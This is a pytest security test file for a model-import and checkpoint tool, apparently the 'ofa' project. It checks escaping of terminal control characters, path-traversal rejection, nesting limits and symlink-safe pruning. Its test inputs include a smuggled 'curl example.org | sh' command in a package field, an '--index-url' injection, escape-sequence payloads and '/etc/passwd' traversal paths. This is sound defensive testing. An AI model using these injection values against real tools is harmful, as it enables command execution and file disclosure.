"""What strangers call their things reaches a terminal escaped and short, and no folder but its own."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import load_file, save_file

from ofa_cli.main import main
from ofa_foreign.importing import import_run
from ofacore.checkpoint import CheckpointError, checkpoints, find_latest, prune, write_pointer
from ofacore.checkpoint.file_names import is_plain_name, is_plain_path
from ofacore.generalist.facade import Generalist
from ofacore.ground.errors import UserError
from ofacore.ground.json_files import JsonError, read_json
from ofacore.ground.printable import LONGEST_LINE, MOST_LINES, escaped, printable, shortened
from tests.foreign.bart import save_bart

ESCAPE = "\x1b]0;owned\x07\x1b[2Jname"


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run made of a small BART; tests change copies of it."""
    folder = tmp_path_factory.mktemp("run")
    save_bart(folder / "theirs")
    import_run(folder / "theirs", folder / "run")
    return folder / "run"


def copied(run: Path, to: Path) -> Path:
    subprocess.run(["cp", "-r", str(run), str(to)], check=True)
    return to


def changed_state(run: Path, to: Path, **changes: Any) -> Path:
    """A copy of a run whose ``state.json`` says something else."""
    copied(run, to)
    (step,) = (to / "checkpoints").glob("step-*")
    state = json.loads((step / "state.json").read_text())
    (step / "state.json").write_text(json.dumps({**state, **changes}))
    marker = json.loads((step / "COMPLETE").read_text())
    marker["files"]["state.json"] = (step / "state.json").stat().st_size
    (step / "COMPLETE").write_text(json.dumps(marker))
    return to


def command(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str]:
    """Exit code and all that was printed."""
    with pytest.raises(SystemExit) as ended:
        main([*arguments])
    done = capsys.readouterr()
    return int(ended.value.code or 0), done.out + done.err


def test_control_characters_are_escaped() -> None:
    assert shortened("a\x1b[31m\nb\u202ec\x9b") == r"a\x1b[31m\nb\u202ec\x9b"
    assert printable("one\n\ttwo\rthree") == "one\n\ttwo\\rthree"
    assert shortened("größe 今天 👩\u200d🚀") == "größe 今天 👩\u200d🚀"
    assert len(shortened("x" * 5_000_000)) <= 120 and shortened("x" * 120) == "x" * 120
    long = printable("\n".join(["y" * 5000] * 1000))
    assert (
        len(long.split("\n")) <= MOST_LINES and max(map(len, long.split("\n"))) < LONGEST_LINE + 60
    )
    assert escaped("\ud800") == r"\ud800"


def with_name(folder: Path, name: str) -> Path:
    save_bart(folder)
    state = load_file(folder / "model.safetensors")
    save_file({**state, name: torch.ones(2)}, folder / "model.safetensors")
    return folder


@pytest.mark.parametrize("name", [ESCAPE, "n" * 2_000_000], ids=["escape", "long"])
def test_names_of_tensors(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = with_name(tmp_path / "theirs", name)
    capsys.readouterr()
    code, told = command(capsys, "import", str(path), "--out", str(tmp_path / "out"))
    assert (
        code == 2
        and "unexpected" in told
        and "\x1b" not in told
        and "\x07" not in told
        and len(told) < 5000
    )
    code, told = command(
        capsys, "import", str(path), "--out", str(tmp_path / "out"), "--allow", "."
    )
    assert code == 0 and "allowed" in told and "\x1b" not in told and len(told) < 5000


@pytest.mark.parametrize(
    "settings",
    [
        {"model_type": ESCAPE},
        {"model_type": ["bart"]},
        {"model_type": "x", "architectures": [1, ESCAPE]},
        {"model_type": "x", "architectures": {"a": 1}},
        {"activation_function": ESCAPE},
    ],
)
def test_values_of_settings(
    settings: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    save_bart(tmp_path / "theirs")
    config = json.loads((tmp_path / "theirs" / "config.json").read_text())
    (tmp_path / "theirs" / "config.json").write_text(json.dumps({**config, **settings}))
    capsys.readouterr()
    code, told = command(capsys, "import", str(tmp_path / "theirs"), "--out", str(tmp_path / "out"))
    assert code == 2 and "\x1b" not in told and len(told) < 3000


LOCKS = {
    "shell": (
        [["x", "evil; curl example.org | sh", "1.0"]],
        "which is no name of a package: do not trust",
    ),
    "version": ([["x", "evil", "1.0 --index-url http://x"]], "which is no name of a package"),
    "name": ([["x", "ofa-modality-smell", "1.2.0"]], "pip install ofa-modality-smell==1.2.0"),
}


@pytest.mark.parametrize("name", LOCKS)
def test_only_names_of_packages_are_suggested(
    name: str, run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lock, words = LOCKS[name]
    place = next((run / "checkpoints").glob("step-*")) / "state.json"
    assembly = json.loads(place.read_text())["assembly"]
    assembly["config"]["tasks"]["imported"]["instruction"] = "[SMELL:a] -> [TEXT:b]"
    path = changed_state(run, tmp_path / "run", plugins=lock, assembly=assembly)
    code, told = command(capsys, "infer", str(path), "imported", "--data", "source=a")
    assert code == 1 or code == 2
    assert words in told
    if name != "name":
        assert "pip install" not in told


STATES: dict[str, tuple[dict[str, Any], str]] = {
    "newer": ({"format": 99}, "is of form 99, written by a newer version of ofacore"),
    "no assembly": ({"assembly": None}, "holds no description of its model"),
    "no configuration": ({"assembly": {"vocabulary": []}}, "assembly.config is missing"),
    "no vocabulary": (
        {"assembly": {"config": {}, "vocabulary": {"a": 1}}},
        "assembly.vocabulary is an object of a",
    ),
    "newer settings": ({"assembly": {"config": {"holograms": 3}, "vocabulary": []}}, "holograms"),
    "artifacts": ({"artifacts": [1]}, "artifacts is a list of 1"),
    "plugins": ({"plugins": "x"}, 'plugins is "x"'),
}


@pytest.mark.parametrize("name", STATES)
def test_a_state_that_is_none(name: str, run: Path, tmp_path: Path) -> None:
    changes, words = STATES[name]
    path = changed_state(run, tmp_path / "run", **changes)
    with pytest.raises(UserError) as caught:
        Generalist.from_pretrained(path)
    assert words in str(caught.value) and str(path) in str(caught.value)


@pytest.mark.parametrize(
    "file", ["config.json", "generation_config.json", "vocab.json", "tokenizer.json"]
)
def test_a_foreign_file_that_is_nested_without_end(file: str, tmp_path: Path) -> None:
    save_bart(tmp_path / "theirs")
    if file == "tokenizer.json":
        (tmp_path / "theirs" / "vocab.json").unlink()
    (tmp_path / "theirs" / file).write_text("[" * 200_000)
    with pytest.raises(UserError, match=f"{file}: is nested more than 100 deep"):
        import_run(tmp_path / "theirs", tmp_path / "out")
    (tmp_path / "theirs" / file).write_text("[" * 300 + "]" * 300)
    with pytest.raises(UserError, match=f"{file}: is nested more than 100 deep"):
        import_run(tmp_path / "theirs", tmp_path / "out")


@pytest.mark.parametrize("file", ["COMPLETE", "state.json", "../latest"])
def test_a_file_of_a_run_that_is_nested_without_end(file: str, run: Path, tmp_path: Path) -> None:
    path = copied(run, tmp_path / "run")
    (step,) = (path / "checkpoints").glob("step-*")
    (step / file).write_text("[" * 200_000)
    marker = step / "COMPLETE"
    if file == "state.json":
        content = json.loads(marker.read_text())
        content["files"][file] = 200_000
        marker.write_text(json.dumps(content))
    with pytest.raises(UserError, match="nested more than 100 deep"):
        Generalist.from_pretrained(path)


def test_a_file_that_is_no_json(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    for content, words in ((b"{", "not JSON"), (b"\xff", "not UTF-8"), (b"", "not JSON")):
        path.write_bytes(content)
        with pytest.raises(JsonError, match=words):
            read_json(path)
    with pytest.raises(JsonError, match="cannot be read"):
        read_json(tmp_path)


@pytest.mark.parametrize(
    "part", ["../other/model.safetensors", "/etc/passwd", "..", "", "a/b", "c:\\x", 7, None]
)
def test_an_index_names_files_beside_it(part: Any, tmp_path: Path) -> None:
    save_bart(tmp_path / "theirs")
    (tmp_path / "theirs" / "model.safetensors").rename(tmp_path / "elsewhere.safetensors")
    index = {"weight_map": {"model.shared.weight": part}}
    (tmp_path / "theirs" / "model.safetensors.index.json").write_text(json.dumps(index))
    with pytest.raises(
        CheckpointError, match="index.json: weight_map names .*expected names of files beside it"
    ):
        import_run(tmp_path / "theirs", tmp_path / "out")


def test_names_inside_of_a_folder() -> None:
    assert is_plain_name("step-000001") and is_plain_path("artifacts/text/merges.txt")
    assert not any(map(is_plain_name, ("a/b", "a\\b", "..", ".", "/a", "", "a\0b", 3)))
    assert not any(map(is_plain_path, ("../a", "a/../../b", "/a", "C:/a", "C:a", "")))


def test_a_pointer_names_a_folder_beside_it(
    run: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path, other = copied(run, tmp_path / "run"), copied(run, tmp_path / "other")
    latest = path / "checkpoints" / "latest"
    for folder in (
        f"../../other/checkpoints/{find_latest(other).name}",
        str(find_latest(other)),
        "..",
        3,
        None,
    ):
        latest.write_text(json.dumps({"folder": folder}))
        with pytest.raises(CheckpointError, match="latest: not a pointer to a checkpoint: names"):
            Generalist.from_pretrained(path)
    latest.write_text(json.dumps({"folder": "nowhere"}))
    assert find_latest(path) == checkpoints(path)[-1]
    assert "'nowhere' names no complete checkpoint; step-000000 is used" in caplog.text
    (marker,) = path.glob("checkpoints/step-*/COMPLETE")
    marker.write_text(json.dumps({"files": {"../../../other/config.yaml": 3}}))
    with pytest.raises(CheckpointError, match="COMPLETE: names the file"):
        Generalist.from_pretrained(path)


def test_nothing_is_pruned_through_a_link(run: Path, tmp_path: Path) -> None:
    path, other = copied(run, tmp_path / "run"), copied(run, tmp_path / "other")
    own = find_latest(path)
    assert own is not None
    for number in (1, 2, 3):
        subprocess.run(
            ["cp", "-r", str(own), str(own.with_name(f"step-00000{number}"))], check=True
        )
    own.rename(own.with_name("step-000004"))
    (own.parent / "step-000000").symlink_to(find_latest(other), target_is_directory=True)
    (own.parent / "step-000005").symlink_to(tmp_path / "nothing", target_is_directory=True)
    write_pointer(path, "latest", own.with_name("step-000004"), step=4)
    assert {place.name for place in prune(path, keep_last=1)} == {
        "step-000001",
        "step-000002",
        "step-000003",
    }
    assert find_latest(other) is not None and Generalist.from_pretrained(other).tasks == (
        "imported",
    )
    assert (own.parent / "step-000000").is_symlink()


def broken_weights(run: Path, to: Path, change: Any) -> Path:
    copied(run, to)
    (file,) = to.glob("checkpoints/step-*/model.safetensors")
    save_file({name: change(name, tensor) for name, tensor in load_file(file).items()}, file)
    marker = file.with_name("COMPLETE")
    content = json.loads(marker.read_text())
    content["files"][file.name] = file.stat().st_size
    marker.write_text(json.dumps(content))
    return to


def test_weights_that_are_no_numbers_are_told(
    run: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    path = broken_weights(
        run, tmp_path / "nan", lambda name, part: part * float("nan") if "ffn" in name else part
    )
    Generalist.from_pretrained(path)
    assert (
        "hold NaN or infinity, so its answers mean nothing" in caplog.text and "ffn" in caplog.text
    )
    path = broken_weights(run, tmp_path / "int", lambda name, part: part.to(torch.int8))
    with pytest.raises(
        CheckpointError, match="tensors hold whole numbers, as quantised weights do"
    ):
        Generalist.from_pretrained(path)


def test_settings_of_a_run_ask_for_no_more_than_its_weights(run: Path, tmp_path: Path) -> None:
    (place,) = run.glob("checkpoints/step-*/state.json")
    assembly = json.loads(place.read_text())["assembly"]
    for key, value in (("ffn", 10**9), ("encoder_layers", 10**8), ("max_positions", 10**10)):
        changed = {
            **assembly,
            "config": {**assembly["config"], "model": {**assembly["config"]["model"], key: value}},
        }
        path = changed_state(run, tmp_path / key, assembly=changed)
        with pytest.raises(
            CheckpointError, match="settings do not fit its weights: they ask for far more than"
        ):
            Generalist.from_pretrained(path)


_SAY = """
import logging, sys, warnings
from ofa_cli.output import echo, guard_logs, print_json
guard_logs()
echo("answer \\x1b[31m red")
print_json({"a\\x1b": "\\x9b1m"})
logging.getLogger("x").warning("log \\x1b[2J")
warnings.warn("warned \\x1b[2J")
"""


def test_a_terminal_gets_no_control_characters() -> None:
    first, second = pty.openpty()
    done = subprocess.run([sys.executable, "-c", _SAY], stdout=second, stderr=second, check=True)
    os.close(second)
    told = b""
    try:
        while part := os.read(first, 65536):
            told += part
    except OSError:
        pass  # the end of a terminal
    os.close(first)
    assert (
        done.returncode == 0
        and told.count(b"\\x1b") == 3
        and b"\x1b" not in told
        and "\x9b".encode() not in told
    )
